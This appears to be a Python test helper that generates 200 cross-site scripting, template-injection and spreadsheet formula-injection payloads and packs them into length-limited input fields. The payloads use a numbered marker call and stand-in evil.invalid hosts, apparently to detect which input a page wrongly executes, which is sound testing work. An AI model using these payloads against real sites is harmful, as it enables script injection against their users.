"""200 texts that become scripts, requests or other elements wherever a page takes them for anything but text."""

BEFORE = ("", '">', "'>", "</script>", "</textarea>", "</title>", "-->", "]]>")
BODIES = (
    "<script>ran({n})</script>", "<img src=x onerror=ran({n})>", "<svg onload=ran({n})>",
    "<svg/onload=ran({n})>", "<ScRiPt>ran({n})</sCrIpT>",
    "<iframe src=javascript:ran({n})>", "<a href=javascript:ran({n})>c</a>", "<details open ontoggle=ran({n})>",
    "<input autofocus onfocus=ran({n})>", "<video><source onerror=ran({n})>", "<object data=javascript:ran({n})>",

    "<form action=javascript:ran({n})><button>b", "<base href=//evil.invalid/{n}>", "<link rel=stylesheet href=//evil.invalid/{n}>",
    "<style>@import'//evil.invalid/{n}'</style>", "<div hx-get=/evil{n} hx-trigger=load>",
    "<div data-hx-get=/evil{n} data-hx-trigger=load>",
    "<div hx-on::load=ran({n})>", "<x onclick=ran({n}) tabindex=1 autofocus onfocus=ran({n})>", "<svg><script>ran({n})</script></svg>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid/{n}'>", "<scr<script>ipt>ran({n})", "<marquee onstart=ran({n})>",
    "<svg><animate onbegin=ran({n}) attributeName=x dur=1s>", "<math href=javascript:ran({n})>m", "<embed src=javascript:ran({n})>",
)  # fmt: skip
PLAIN = (
    "{{{{constructor.constructor('ran({n})')()}}}}", "{{% debug {n} %}}", "${{ran({n})}}", "javascript:ran({n})", "&lt;script&gt;ran({n})",
    "%3Cscript%3Eran({n})", "\\u003cscript\\u003eran({n})", "';ran({n});//", '";ran({n});//', "' onmouseover=ran({n}) x='",
    '" autofocus onfocus=ran({n}) x="', "`-ran({n})-`", "=cmd|' /C calc'!A{n}", "<!--><script>ran({n})", "&#60;script&#62;ran({n})",
    "<noscript><p title='</noscript><img src=x onerror=ran({n})>'>",
)  # fmt: skip


def payloads() -> list[str]:
    mixed = [before + body for before in BEFORE for body in BODIES]
    return [text.format(n=number) for number, text in enumerate((*PLAIN, *mixed[: 200 - len(PLAIN)]))]


def batches(texts: list[str], longest: int, between: str = " ") -> list[str]:
    """As many side by side as a field takes; one that does not fit by itself is left out."""
    found = [""]
    for text in texts:
        if len(text) > longest:
            continue
        joined = f"{found[-1]}{between}{text}" if found[-1] else text
        found[-1:] = [joined] if len(joined) <= longest else [found[-1], text]
    return found
